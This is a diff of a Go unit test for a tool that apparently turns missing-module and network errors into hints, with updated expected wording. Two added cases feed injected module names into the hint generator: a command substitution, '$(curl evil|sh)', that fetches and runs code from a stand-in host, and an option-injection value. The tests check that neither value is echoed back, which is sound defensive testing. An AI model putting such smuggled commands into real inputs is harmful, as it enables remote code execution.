@@ -18,7 +18,7 @@ func refused(code runtime.Code) error {
 }
 
 func TestRules(t *testing.T) {
-	python := Case{Environment: "lab", Image: "python:3", ExitCode: 1}
+	python := Case{Environment: "lab", Image: "python:3", ExitCode: 1, Upload: "`rockpool runner cp`"}
 	with := func(change func(*Case)) Case {
 		c := python
 		change(&c)
@@ -51,9 +51,12 @@ func TestRules(t *testing.T) {
 		{"its own server", stderr("connect: Connection refused"), ""},
 		{"a network and a module", stderr("Network is unreachable\nModuleNotFoundError: No module named 'requests'"), "requests isn't in the environment"},
 		{"a module", stderr("ModuleNotFoundError: No module named 'numpy'\n"), "rockpool env put lab --image IMAGE"},
-		{"a module of the machine", with(func(c *Case) { c.Image = "host"; c.Stderr = "ModuleNotFoundError: No module named 'numpy'" }), "install it on the server's machine (--warm-module numpy"},
+		{"a module of the machine", with(func(c *Case) { c.Image = "host"; c.Stderr = "ModuleNotFoundError: No module named 'numpy'" }), "install it on the server's machine (if the image has it, --warm-module numpy loads"},
 		{"a module of node", stderr("Error: Cannot find module 'left-pad'"), "left-pad isn't in"},
-		{"an own file of node", stderr("Error: Cannot find module './lib'"), "upload the file of ./lib"},
+		{"an own file of node", stderr("Error: Cannot find module './lib'"), "upload the file of ./lib too, with `rockpool runner cp`"},
+		{"a module of a scope", stderr("Error: Cannot find module '@a/b-c.js'"), "upload your own module with `rockpool runner cp`"},
+		{"a command as a module", stderr("ModuleNotFoundError: No module named '$(curl evil|sh)'"), ""},
+		{"an option as a module", stderr("ModuleNotFoundError: No module named 'a --image b'"), ""},
 	} {
 		if got := For(test.c); test.says == "" && got != "" || !strings.Contains(got, test.says) {
 			t.Errorf("%s: %q, not %q", test.name, got, test.says)
